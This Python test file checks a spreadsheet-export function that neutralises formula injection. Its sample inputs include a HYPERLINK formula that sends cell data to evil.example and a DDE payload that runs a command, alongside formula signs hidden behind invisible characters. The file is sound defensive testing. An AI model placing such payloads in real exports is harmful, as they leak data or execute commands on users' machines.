"""No text begins a formula in a spreadsheet, and none is changed that could not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vault.trail.exports.neutral import neutral

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u3000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "−1",
    "=cmd|' /C calc'!A0",
    "'=1",
    "\u202e=1",
]
HARMLESS = [
    "",
    "Offer for line four",
    "王晓明",
    "10.1.2.3",
    "a=b",
    "D2026-00001",
    "2026-11-24",
    "“quoted”",
    "(=1)",
    "#5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_might_be_a_formula_gets_an_apostrophe(text: str) -> None:
    """Whatever stands before the sign and is not seen."""
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    """An id, an address and a name are read by programs too."""
    assert neutral(text) == text


@given(st.text())
def test_no_neutral_text_begins_with_a_sign(text: str) -> None:
    """After whatever a program may pass over."""
    assert neutral(text).lstrip("\t\r\n \u00a0\u3000\u200b\ufeff")[:1] not in set("=+-@＝＋－＠")


@given(st.text())
def test_text_itself_can_be_had_back(text: str) -> None:
    """By taking away one apostrophe, where there is one."""
    assert neutral(text).removeprefix("'") == text
